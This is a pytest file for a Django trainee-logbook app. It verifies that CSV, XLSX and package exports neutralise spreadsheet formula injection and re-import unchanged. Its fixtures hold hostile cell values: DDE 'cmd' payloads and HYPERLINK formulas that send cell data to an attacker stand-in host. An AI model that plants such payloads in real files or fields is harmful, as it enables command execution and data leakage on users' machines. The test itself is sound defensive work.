"""Security issue, finding 4: no exported cell runs as a spreadsheet formula (CSV, XLSX, the package's
CSVs and the certification snapshot graders download), and the package round trip stays exact."""

import csv
import datetime as dt
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from cmrnet import rules
from cmrnet.logbook import package, selectors, services
from cmrnet.logbook.models import Case
from cmrnet.logbook.patient_keys import patient_key
from cmrnet.rules.testing import make_compliant_application
from tests.logbook.factories import supervise

pytestmark = pytest.mark.django_db
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CASE_ID = "=cmd|' /C calc'!A0"
COURSE = "+HYPERLINK(\"http://attacker.invalid\",\"x\")"
COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Open\")"
PROVIDER = "'=already quoted"


@pytest.fixture
def hostile(supervised, mentor, day):
    """A logbook whose text fields hold formulas: typed by the trainee, and a supervisor's query comment."""
    case = services.add_case(by=supervised, trainee=supervised, data=services.CaseInput(
        study_date=day, patient_key=patient_key("local-17"), category="mass", source="course", course_id=COURSE,
        role="observer", supervisor_id=mentor.pk, case_id=CASE_ID))
    services.verify_case(by=mentor, case=case, status="queried", comment=COMMENT)
    services.add_cme(by=supervised, trainee=supervised, title=TITLE, provider=PROVIDER, kind="course",
                     start_date=day, end_date=day, credits=Decimal("6"), modalities=1, catalog_id="-1", certificate="")
    return supervised


def _csv_cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_csv_export_has_no_formula_cell(hostile, client):
    client.force_login(hostile)
    text = client.get("/logbook/export/csv/").content.decode()
    cells = _csv_cells(text)
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert "'" + CASE_ID in cells and "'" + COURSE in cells and "'" + COMMENT in cells


def test_the_xlsx_export_writes_text_as_text_never_as_a_formula(hostile, client):
    client.force_login(hostile)
    body = client.get("/logbook/export/xlsx/").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    row = [c.value for c in load_workbook(io.BytesIO(body)).active[2]]
    assert row[0] == CASE_ID and row[6] == COURSE and row[12] == COMMENT       # exact, not escaped


def test_the_package_csvs_are_escaped_and_import_back_identical(hostile, mentor, other_trainee, today):
    blob = package.export_zip(hostile, today=today)
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        for name in ("cases.csv", "cme.csv"):
            cells = _csv_cells(archive.read(name).decode())
            assert not [c for c in cells if c.startswith(TRIGGERS)], name
    supervise(other_trainee, mentor, today=today)
    package.import_zip(by=other_trainee, trainee=other_trainee, upload=SimpleUploadedFile("p.zip", blob))
    case = Case.objects.get(trainee=other_trainee)
    assert (case.case_id, case.course_id) == (CASE_ID, COURSE)
    activity = other_trainee.cme_activities.get()
    assert (activity.title, activity.provider, activity.catalog_id) == (TITLE, PROVIDER, "-1")


def test_the_certification_snapshot_graders_download_is_escaped(hostile, today, tmp_path):
    from cmrnet.certification import integration

    data = selectors.application_data_for(hostile, today=today)
    blob = integration.package_zip(data, manifest={"application": 1})
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        for name in ("package/cases.csv", "package/cme.csv"):
            assert not [c for c in _csv_cells(archive.read(name).decode()) if c.startswith(TRIGGERS)], name
        archive.extractall(tmp_path)
    again = rules.read_package(tmp_path / "package")
    assert again.cases[0].case_id == CASE_ID and again.cme[0].title == TITLE


def test_numbers_are_not_text_and_are_never_escaped(tmp_path):
    data = make_compliant_application("level2", exam_date=dt.date(2025, 11, 7))
    data = replace(data, cme=(replace(data.cme[0], title="-5 ideas", credits=2.5),))
    folder = rules.write_package(tmp_path / "pkg", data)
    text = (folder / "cme.csv").read_text()
    assert ",2.5," in text and "'-5 ideas" in text
    assert rules.read_package(folder) == data
